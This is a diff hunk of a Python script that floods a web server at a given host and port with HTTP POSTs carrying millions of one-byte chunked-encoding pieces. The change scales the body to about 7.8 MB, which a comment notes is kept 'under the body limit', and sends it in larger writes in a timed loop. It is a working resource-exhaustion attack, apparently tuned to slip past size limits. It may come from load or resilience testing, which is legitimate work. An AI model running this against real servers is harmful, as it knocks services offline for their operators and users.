@@ -326,14 +326,14 @@ import socket, sys, time
 host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
 head = (b"POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\n"
         b"Transfer-Encoding: chunked\\r\\n\\r\\n")
-body = b"1\\r\\na\\r\\n" * 200_000
+body = b"1\\r\\na\\r\\n" * 1_300_000  # 7.8 MB, under the body limit
 ends = time.monotonic() + seconds
 while time.monotonic() < ends:  # one connection at a time, sending 1-byte chunks as fast as it can
     try:
         with socket.create_connection((host, port), timeout=5) as sock:
             sock.sendall(head)
-            for at in range(0, len(body), 1400):
-                sock.sendall(body[at : at + 1400])
+            for at in range(0, len(body), 65536):
+                sock.sendall(body[at : at + 65536])
             while sock.recv(65536):
                 pass
     except OSError:
